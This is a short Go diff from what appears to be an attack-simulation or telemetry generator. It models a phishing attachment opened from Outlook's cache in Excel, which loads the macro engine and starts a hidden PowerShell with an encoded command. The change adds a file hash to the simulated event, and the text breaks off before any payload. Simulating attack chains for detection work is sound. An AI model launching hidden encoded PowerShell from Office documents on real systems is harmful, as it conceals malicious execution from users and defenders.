@@ -84,7 +84,7 @@ func (s *scene) open(c cast, lure *mail) *process {
 	x := c.workplace
 	outlook := x.residents["OUTLOOK.EXE"]
 	cache := x.home(c.victim) + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + s.d.hex(8)
-	s.write(s.at(8, 47, 31), outlook, cache, lure.attachments[0].name, lure.attachments[0].size)
+	s.write(s.at(8, 47, 31), outlook, cache, lure.attachments[0].name, lure.attachments[0].size).sha256 = lure.attachments[0].sha256
 	excel := s.run(s.at(8, 47, 33), outlook, "EXCEL.EXE", `"`+images["EXCEL.EXE"].path("")+`" "`+cache+`\`+lureName+`"`)
 	s.load(s.at(8, 47, 41), excel, "VBE7.DLL")
 	shell := s.run(s.at(8, 48, 2), excel, "powershell.exe", "powershell.exe -NoP -W Hidden -Enc "+
